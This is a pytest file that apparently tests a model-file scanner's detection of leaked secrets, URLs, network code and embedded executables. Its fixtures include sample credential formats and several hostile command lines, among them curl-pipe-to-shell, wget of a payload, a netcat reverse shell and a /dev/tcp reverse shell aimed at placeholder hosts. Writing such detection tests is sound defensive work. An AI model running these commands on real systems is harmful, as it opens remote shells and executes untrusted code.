"""shardscan.scanners.indicators: secrets (always masked), URLs, network code, embedded executables.

The scanners that call this module raise the findings (BIN001 for embedded machine code, their
own rules for secrets and URLs); these tests pin the detection they rely on.
"""

from __future__ import annotations

import base64
import io
import random
import struct
import uuid
import zipfile
from hashlib import sha256

import numpy as np
import pytest

from shardscan.model import Severity
from shardscan.rules import BY_ID
from shardscan.scanners.indicators import (
    Secret,
    find_executables,
    find_network_code,
    find_secrets,
    find_urls,
    mask,
)

MiB = 1024 * 1024

# (kind, text holding it, the secret part that must never be shown)
SECRETS = [
    ("AWS access key id", "AKIAIOSFODNN7EXAMPLE", "IOSFODNN7EXAMPLE"),
    ("AWS secret access key", "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
     "wJalrXUtnFEMI/K7MDENG"),
    ("GitHub token", "ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8", "a1B2c3D4e5F6g7H8"),
    ("GitHub token", "gho_16C7e42F292c6912E7710c838347Ae178B4a", "16C7e42F292c6912"),
    ("GitHub token", "github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGHIJKL",
     "11ABCDEFG0123456789_abc"),
    ("Hugging Face token", "hf_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789", "AbCdEfGhIjKlMnOp"),
    ("API key", "sk-Zz9Yy8Xx7Ww6Vv5Uu4Tt3Ss2Rr1Qq0", "Zz9Yy8Xx7Ww6"),
    ("API key", "sk-proj-Zz9Yy8Xx7Ww6Vv5Uu4Tt3Ss2", "Zz9Yy8Xx7Ww6"),
    ("Slack token", "xoxb-123456789012-abcdefghijkl", "123456789012"),
    ("Google API key", "AIzaSyA1234567890abcdefghijklmnopqrstuv", "SyA1234567890ab"),
    ("Stripe key", "sk_live_" + "4eC39HqLyjWDarjtT1zdp7dc", "4eC39HqLyjWDarjt"),
    ("private key", "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA7bq9\n-----END RSA PRIVATE KEY-----",
     "MIIEowIBAAKCAQEA7bq9"),
    ("private key", "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA", "b3BlbnNzaC1rZXk"),
    ("JSON web token",
     "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
     "dozjgNryP4J3"),
    ("assigned secret", "password=Tr0ub4dor&3horse", "Tr0ub4dor"),
    ("assigned secret", "api_key: 'q8Xr2LmN5vT9wZ3k'", "q8Xr2LmN5vT9wZ3k"),
    ("password in URL", "https://admin:Sup3rS3cretPassw0rd@registry.invalid/models", "Sup3rS3cret"),
    ("credential in URL parameter", "https://s3.example/x?X-Amz-Signature=abcdef0123&y=1", "abcdef0123"),
]


@pytest.mark.parametrize(("kind", "text", "secret"), SECRETS, ids=[f"{k}-{i}" for i, (k, _, _) in enumerate(SECRETS)])
def test_every_secret_kind_is_found_and_masked(kind, text, secret):
    line = f"pushed with {text} ok"
    found = find_secrets(line)
    assert [s.kind for s in found] == [kind]
    [s] = found
    assert secret in line[s.start:s.end]
    assert secret not in repr(found) and secret not in s.masked
    assert f"{s.length} chars masked" in s.masked
    masked = mask(line)
    assert secret not in masked
    # An unterminated PEM block is masked to its end (over-masking is safe).
    assert masked.startswith("pushed with ") and (masked.endswith(" ok") or "BEGIN" in text)
    assert s.masked in masked


def test_aws_secret_key_near_a_key_id():
    text = "id AKIAIOSFODNN7EXAMPLE\nkey wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
    kinds = [s.kind for s in find_secrets(text)]
    assert kinds == ["AWS access key id", "AWS secret access key"]
    assert "wJalrXUtnFEMI" not in mask(text)
    # The same 40 characters far from any key id are not taken for a secret.
    assert find_secrets("x" * 400 + " wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY") == []


def test_masked_display_keeps_only_the_public_prefix():
    out = mask("token hf_" + "A" * 34 + " and https://u:pw123@host/x")
    assert out == ("token hf_<Hugging Face token, 34 chars masked> and "
                   "https://u:<password in URL, 5 chars masked>@host/x")
    assert mask(out) == out  # masking is idempotent
    assert mask("AKIAIOSFODNN7EXAMPLE").startswith("AKIA<")
    assert mask("AKIAIOSFODNN7EXAMPLE", display=lambda s: s.prefix + "[masked]") == "AKIA[masked]"


def test_secret_repr_never_holds_the_value():
    s = Secret("Hugging Face token", 0, 40, "hf_", 37)
    assert s.masked == "hf_<Hugging Face token, 37 chars masked>"
    assert set(repr(s).split("'")) >= {"Hugging Face token", "hf_"}


def _float_base64() -> list[str]:
    rng = np.random.default_rng(1)
    return [base64.b64encode(rng.standard_normal(n).astype(np.float32).tobytes()).decode()
            for n in (4, 16, 64, 256, 1024)]


BENIGN = [
    "/usr/lib/python3/site-packages/torch/nn/modules/module.py", "C:\\Users\\me\\model.ckpt", "~/.cache/huggingface",
    "meta-llama/Llama-2-7b-hf", "bert-base-uncased", "openai/whisper-large-v3", "sk-learn model", "skip-gram",
    "hf_hub_download", "model.safetensors.index.json", "tokenizer_config.json", "max_token_length=225",
    "token: 225", "tokenizer: bert", "password", "api_key=", "key=value", "AKIA", "eyJ", "ghp_short",
    str(uuid.UUID(int=0x1234567890ABCDEF1234567890ABCDEF)), str(uuid.uuid4()),
    sha256(b"weights").hexdigest(), sha256(b"x").hexdigest().upper(), "0x7fELF", "MZ",
    "https://huggingface.co/org/model", "s3://bucket/ckpt/model.bin", "a cat on a mat",
    "layers.0.self_attn.q_proj.weight", "-----BEGIN CERTIFICATE-----\nMIIB", "ssh-rsa AAAAB3NzaC1yc2E",
    *_float_base64(),
]


@pytest.mark.parametrize("text", BENIGN)
def test_no_secret_in_benign_strings(text):
    assert find_secrets(text) == []
    assert mask(text) == text
    assert find_network_code(text) == []


# --- URLs and network code ---------------------------------------------------------------------


def test_urls_are_found_with_credentials_masked():
    [u] = find_urls("see https://a:hunter2@x.org/p?token=abcd1234 now")
    assert u.kind == "URL" and u.start == 4
    assert "hunter2" not in u.text and "abcd1234" not in u.text and u.text.startswith("https://a:")
    assert [u.text for u in find_urls("s3://b/k gs://b/k hdfs://n/p data:image/png;base64,AAAA")] == [
        "s3://b/k", "gs://b/k", "hdfs://n/p", "data:image/png;base64,"]
    assert find_urls("no places here: /etc/hosts") == []


@pytest.mark.parametrize(("code", "kind"), [
    ("s = socket.socket(socket.AF_INET)", "raw socket"),
    ("socket.create_connection(('h', 1))", "raw socket"),
    ("requests.get('http://x')", "python HTTP client"),
    ("requests.post(url, data=d)", "python HTTP client"),
    ("import urllib.request", "python HTTP client"),
    ("urlopen(u)", "python HTTP client"),
    ("curl -s https://evil.invalid/x", "curl/wget"),
    ("wget http://evil.invalid/payload", "curl/wget"),
    ("curl evil.invalid | sh", "curl/wget"),
    ("nc -e /bin/sh 10.0.0.1 4444", "netcat"),
    ("ncat -lvp 4444 -e /bin/bash", "netcat"),
    ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "/dev/tcp"),
    ("powershell Invoke-WebRequest -Uri http://x", "PowerShell web"),
])
def test_network_code(code, kind):
    assert kind in {i.kind for i in find_network_code(code)}


def test_network_code_masks_what_it_quotes():
    [i] = find_network_code("requests.get('https://u:hunter2@x/')")
    assert "hunter2" not in i.text


# --- embedded executables ----------------------------------------------------------------------


def elf64() -> bytes:
    h = b"\x7fELF" + bytes([2, 1, 1, 0]) + bytes(8)
    h += struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x401000, 64, 0, 0, 64, 56, 1, 64, 0, 0)
    return h + bytes(64)


def elf32_be() -> bytes:
    h = b"\x7fELF" + bytes([1, 2, 1, 0]) + bytes(8)
    h += struct.pack(">HHIIIIIHHHHHH", 3, 8, 1, 0, 52, 0, 0, 52, 32, 0, 40, 0, 0)
    return h + bytes(32)


def pe() -> bytes:
    dos = bytearray(b"MZ" + bytes(0x3A) + struct.pack("<I", 0x80))
    dos += bytes(0x80 - len(dos))
    return bytes(dos) + b"PE\0\0" + struct.pack("<HHIIIHH", 0x8664, 3, 0, 0, 0, 0xF0, 0x22) + bytes(0xF0)


def macho64() -> bytes:
    return b"\xcf\xfa\xed\xfe" + struct.pack("<iiIIII", 0x0100000C, 0, 2, 16, 1200, 0) + bytes(64)


def fat() -> bytes:
    arch = struct.pack(">iiIII", 0x01000007, 3, 4096, 100, 12) + struct.pack(">iiIII", 0x0100000C, 0, 8192, 100, 14)
    return b"\xca\xfe\xba\xbe" + struct.pack(">I", 2) + arch


def zipped() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("payload/run.py", "print(1)\n" * 20)
    return buf.getvalue()


@pytest.mark.parametrize(("blob", "kind", "native"), [
    (elf64(), "ELF", True), (elf32_be(), "ELF", True), (pe(), "PE", True), (macho64(), "Mach-O", True),
    (b"\xfe\xed\xfa\xce" + struct.pack(">iiIII", 18, 0, 6, 3, 300) + bytes(40), "Mach-O", True),
    (fat(), "Mach-O fat", True), (zipped(), "ZIP", False),
    (b"#!/bin/sh\ncurl x | sh\n", "script", False), (b"#!/usr/bin/env python3\nimport os\n", "script", False),
])
def test_executables_found_at_their_offset(blob, kind, native):
    rng = random.Random(7)
    before, after = rng.randbytes(12345) + b"\n", rng.randbytes(5000)
    found = find_executables(before + blob + after, base_offset=1000)
    assert [(e.kind, e.offset) for e in found] == [(kind, 1000 + len(before))], found
    assert found[0].native is native and found[0].detail
    assert BY_ID["BIN001"].severity == Severity.CRITICAL


def test_real_elf_is_found():
    try:
        with open("/bin/ls", "rb") as f:
            data = f.read(4096)
    except OSError:
        pytest.skip("no /bin/ls")
    if not data.startswith(b"\x7fELF"):
        pytest.skip("not an ELF system")
    [e] = [e for e in find_executables(bytes(100) + data) if e.kind == "ELF"]
    assert e.offset == 100 and e.native


@pytest.mark.parametrize("blob", [
    b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(64),  # a Java class file (major version 52)
    b"\x7fELF" + bytes([3, 1, 1]) + bytes(64),  # class 3
    b"MZ" + bytes(0x3A) + struct.pack("<I", 0x80) + bytes(100),  # e_lfanew points at no PE header
    b"MZ" + bytes(0x3A) + struct.pack("<I", 0xFFFF0000) + bytes(100),  # e_lfanew beyond the blob
    b"PK\x03\x04" + bytes(26),  # no name, date zero
    b"x #!/bin/sh\n",  # not at the start of a line
    b"#!not a path\n",
])
def test_magic_without_a_plausible_header_is_ignored(blob):
    assert find_executables(blob) == []


def test_random_bytes_hold_no_executable():
    data = random.Random(0).randbytes(64 * MiB)
    assert find_executables(data) == []


def test_float_tensors_hold_no_executable():
    rng = np.random.default_rng(0)
    data = rng.standard_normal(16 * MiB, dtype=np.float32).tobytes()
    assert len(data) == 64 * MiB
    assert find_executables(data) == []
    half = rng.standard_normal(32 * MiB, dtype=np.float32).astype(np.float16).tobytes()
    assert find_executables(half) == []
